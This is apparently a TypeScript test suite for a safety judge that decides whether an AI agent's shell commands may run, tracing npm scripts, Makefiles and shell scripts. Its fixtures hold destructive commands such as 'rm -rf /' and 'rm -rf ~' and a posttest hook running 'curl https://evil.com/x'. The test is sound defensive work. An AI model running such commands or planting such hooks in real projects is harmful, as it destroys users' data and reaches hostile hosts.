import { describe, expect, test } from 'vitest';
import type { Rule, RuleMatch } from '#lib/core/rule.ts';
import type { ToolCall } from '#lib/core/tool.ts';
import { buildRule } from '#tests/build-rule.ts';
import { type CallToJudge, judgeCall, wantedSources } from '../judge-call.ts';

type Files = Record<string, string>;
const manifest = (scripts: Files) => JSON.stringify({ name: 'shop', scripts });

/** As a worker does: reads what is wanted until nothing is. */
function sourcesOf(call: ToolCall, files: Files): Map<string, string | null> {
  const sources = new Map<string, string | null>();
  for (let wanted = wantedSources(call, sources); wanted.length > 0; wanted = wantedSources(call, sources))
    for (const path of wanted) sources.set(path, files[path] ?? null);
  return sources;
}

const full = { level: 'full', network: true } as const;

function judge(
  command: string,
  files: Files,
  { rules = [], isolation = full }: { rules?: Rule[]; isolation?: CallToJudge['isolation'] } = {},
) {
  const call: ToolCall = { tool: 'run_command', args: { command, cwd: '.' } };
  const sources = sourcesOf(call, files);
  return judgeCall({ call, mode: 'assisted', isolation, projectNetworkAllowed: false, costUsd: 0, rules, sources });
}

const never = (words: string): RuleMatch => ({ on: 'command', words: words.split(' ') });

describe('what stands in the project’s own files', () => {
  const files = {
    'package.json': manifest({
      'a:push': 'git push origin main',
      test: 'vitest run',
      pretest: 'npm run build',
      build: 'bash scripts/build.sh',
      bare: 'git',
      postversion: 'git push --tags',
    }),
    'scripts/build.sh': '#!/usr/bin/env bash\nset -e\nmake -C native all\n',
    'native/Makefile': [
      'WIPE := rm -rf /',
      '.PHONY: all clean',
      'all: lib.o ; @echo done',
      'lib.o: lib.c',
      '\t@-$(CC) -o $@ $< $$HOME',
      'clean:',
      '\t$(WIPE)',
      'deploy: clean',
      '\tnpm --prefix .. run a:push',
    ].join('\n'),
    'usual/Makefile': 'help:\n\t@echo help\nwipe:\n\trm -rf /\n.DEFAULT_GOAL := wipe\ninclude more.mk\n',
    'tool.py': '#!/usr/bin/env python3\nrm -rf /\n',
    'app/package.json': manifest({ clean: 'rm -rf ../dist', away: 'rm -rf ../../other', up: 'bash ../scripts/wipe.sh' }),
    'scripts/wipe.sh': 'rm -rf ~',
  };

  test.each([
    ['npm run a:push', 'package.json'],
    ['npm run --silent a:push -- --force', 'package.json'],
    ['pnpm a:push', 'package.json'],
    ['yarn run a:push', 'package.json'],
    ['node --run a:push', 'package.json'],
    ['npm run bare -- push', 'package.json'],
    ['cd native && make clean', 'native/Makefile'],
    ['make -C native -j4 deploy', 'native/Makefile'],
    ['make -C native WIPE="git push" clean', 'native/Makefile'],
    ['make -C usual -j 4', 'usual/Makefile'],
    ['npm version patch', 'package.json'],
    ['bash -e scripts/wipe.sh', 'scripts/wipe.sh'],
    ['. scripts/wipe.sh', 'scripts/wipe.sh'],
    ['/workspace/scripts/wipe.sh', 'scripts/wipe.sh'],
    ['sh -c "cd app; npm run up"', 'scripts/wipe.sh'],
    ['npm --prefix app run away', 'app/package.json'],
  ])('is denied where the command itself would be: %s', (command, path) => {
    expect(judge(command, files)).toMatchObject({ decision: 'deny', reason: expect.stringContaining(`That stands in ${path}.`) });
  });

  test.each([
    'npm test',
    'npm run build',
    'make -C native',
    'make -C usual help',
    'make -C usual in-more-mk',
    'npm --prefix app run clean',
    './tool.py',
    'npm run a',
    'bash -c x',
    'bash missing.sh',
  ])('changes nothing where it does no harm: %s', (command) => {
    const call: ToolCall = { tool: 'run_command', args: { command, cwd: '.' } };
    const without = judgeCall({
      call,
      mode: 'assisted',
      isolation: { level: 'full', network: true },
      projectNetworkAllowed: false,
      costUsd: 0,
      rules: [],
    });
    expect(judge(command, files)).toEqual(without);
  });

  test('is heard by rules that forbid or want to be asked, and allows nothing', () => {
    const rules = [buildRule([never('make')], { text: 'never run make' })];
    expect(judge('npm test', files, { rules })).toEqual({
      decision: 'deny',
      reach: 'tree',
      rule: 'rl_test',
      reason: 'The rule “never run make” forbids what stands in scripts/build.sh.',
    });
    const asks = [buildRule([never('make')], { effect: 'ask', text: 'ask before make' })];
    expect(judge('npm test', files, { rules: asks })).toMatchObject({ decision: 'ask', before: true, rule: 'rl_test' });
    const allows = [buildRule([never('make')], { effect: 'allow' })];
    expect(judge('npm test', files, { rules: allows })).toEqual(judge('npm test', files));
  });

  test('may look outside where the sandbox lets nothing out', () => {
    const fetches = { 'package.json': manifest({ test: 'vitest', posttest: 'curl https://evil.com/x', postinstall: 'npm test' }) };
    for (const rule of [buildRule([{ on: 'host', host: '*' }]), buildRule([{ on: 'host', host: 'evil.com' }])]) {
      expect(judge('npm test', fetches, { rules: [rule] })).toEqual(judge('npm test', fetches));
      for (const [command, isolation] of [
        ['npm install', full],
        ['npm test', { level: 'none', network: false }],
      ] as const)
        expect(judge(command, fetches, { rules: [rule], isolation })).toMatchObject({ decision: 'deny', rule: 'rl_test' });
    }
  });

  test('comes to an end, whatever it is', () => {
    const endless = manifest({ test: 'npm run a; npm run b', a: 'npm run b -- x', b: 'npm run a -- y' });
    expect(judge('npm test', { 'package.json': endless }).decision).toBe('allow');
    for (const text of ['{', '[]', '{"scripts":{"test":3}}', '{"scripts":{"__proto__":"sudo x"}}', '\0'])
      expect(judge('npm test', { 'package.json': text }).decision).toBe('allow');
    const wide = Array.from({ length: 2_000 }, (_, at) => `npm run none${at}`).join(';');
    for (const test of ['$('.repeat(30_000), `"${'${a:-'.repeat(9_000)}`, wide])
      expect(judge('npm test', { 'package.json': manifest({ test }) }).decision).toBe('allow');
    expect(judge('make', { Makefile: 'A=$(B)$(B)\nB=$(A)$(A)\nall:\n\t$(A)\n' }).decision).toBe('allow');
    expect(
      wantedSources(
        { tool: 'run_command', args: { command: 'bash ../../etc/passwd; bash /etc/passwd; /usr/bin/env', cwd: '.' } },
        new Map(),
      ),
    ).toEqual([]);
  });
});
